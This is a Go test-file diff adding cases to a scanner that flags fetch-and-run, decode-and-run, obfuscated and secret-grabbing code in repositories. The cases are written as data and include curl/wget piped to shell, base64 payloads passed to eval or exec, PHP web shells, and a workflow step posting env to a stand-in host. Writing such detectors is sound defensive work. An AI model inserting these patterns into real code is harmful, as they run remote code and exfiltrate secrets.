@@ -153,3 +153,66 @@ func TestDecodeAndRun(t *testing.T) {
 		{"test/a.test.js", "", []string{"eval(atob('aGVsbG8='));\n"}},
 	})
 }
+
+// The same by other ways of writing.
+func TestRunsWhatIsWrittenOtherwise(t *testing.T) {
+	check(t, []hits{
+		{"tools/build.sh", "fetch-and-run", []string{
+			"bash <<< \"$(curl -s https://a.example)\"\n",
+			"c'u'rl https://a.example | sh\n",
+			"curl https://a.example | xargs -I{} sh -c '{}'\n",
+			"wget -qO- https://a.example | (cat | sh)\n",
+		}},
+		{"tools/build.sh", "decode-and-run", []string{
+			"x=$(curl -s https://a.example)\neval \"$x\"\n",
+			"x=$(curl -s https://a.example)\ny=1\necho \"$x\" | sh\n",
+			"x=`wget -qO- https://a.example`\nbash -c \"$x\"\n",
+			"x=$(base64 -d y)\nsh <<< \"$x\"\n",
+			"echo $'\\x65\\x63\\x68\\x6f' | sh\n",
+			"printf %b '\\150\\151' | sh\n",
+			"echo aGVsbG8= | base64 -d > /tmp/a.py\npython3 /tmp/a.py\n",
+			"base64 -d a > b.sh && chmod +x b.sh && ./b.sh\n",
+			"perl -MMIME::Base64 -e 'eval(decode_base64(\"aGVsbG8=\"))'\n",
+			"powershell -enc aABlAGwAbABvACEAIQA=\n",
+			"python3 -c \"import base64; exec(base64.b64decode('aGVsbG8='))\"\n",
+		}},
+		{".github/workflows/a.yml", "decode-and-run", []string{
+			"run: |\n  x=$(echo aGVsbG8= | base64 -d)\n  eval \"$x\"\n", "- run: c=$(curl https://a.example); eval \"$c\"\n",
+		}},
+		{"src/a.js", "decode-and-run", []string{
+			"globalThis['\\x65val'](atob('aGVsbG8='));\n",
+			"const c = Buffer.from('aGVsbG8=', 'base64').toString(); require('child_process').execSync(c);\n",
+			"require('child_process').exec(Buffer.from('aGVsbG8=', 'base64').toString());\n",
+			"document.write(unescape('%68'));\n",
+			"spawn('sh', ['-c', atob('aGVsbG8=')]);\n",
+		}},
+		{"a.py", "decode-and-run", []string{
+			"getattr(__builtins__, 'ex' + 'ec')(b64decode('aGVsbG8='))\n",
+			"exec(''.join(map(chr, [104, 105])))\n",
+			"exec(''.join(chr(c) for c in x))\n",
+			"subprocess.run(['sh', '-c', base64.b64decode(x)])\n",
+		}},
+		{"a.php", "decode-and-run", []string{"eval($_POST['x']);\n", "system($_GET['x']);\n"}},
+		{"a.pl", "decode-and-run", []string{"eval pack('H*', '6869');\n"}},
+		{"a.rb", "decode-and-run", []string{
+			"eval(Net::HTTP.get(URI('https://a.example')))\n",
+			"eval(URI.open('https://a.example').read)\n",
+		}},
+		{"a.go", "decode-and-run", []string{
+			"d, _ := base64.StdEncoding.DecodeString(s)\nexec.Command(\"sh\", \"-c\", string(d)).Run()\n",
+		}},
+		{"src/a.js", "obfuscated", []string{"const a0_0x1a2b=a0_0x3c4d,b=a0_0x5e6f(a0_0x7a8b);\n"}},
+		{".github/workflows/a.yml", "workflow-grab", []string{
+			"run: echo \"${{ secrets.TOKEN }}\" | sed 's/./& /g'\n", "run: curl -d \"$(env)\" https://a.example\n",
+		}},
+		{"tools/build.sh", "", []string{
+			"x=$(curl -s https://a.example)\necho \"$x\" | grep y\n", "don't() { x; }\n",
+			"echo \"$K\" | base64 -d > key.p12\nsecurity import key.p12\n",
+			"x=$(curl -fsSL https://sh.rustup.rs)\nsh -c \"$x\"\n",
+		}},
+		{"src/a.js", "", []string{
+			"const s = '\\x1b[0m' + atob(x);\n", "const c = Buffer.from(x, 'base64'); fs.writeFileSync(p, c);\n",
+			"spawn('sh', ['-c', 'make']);\nconst x = atob(y);\n",
+		}},
+	})
+}
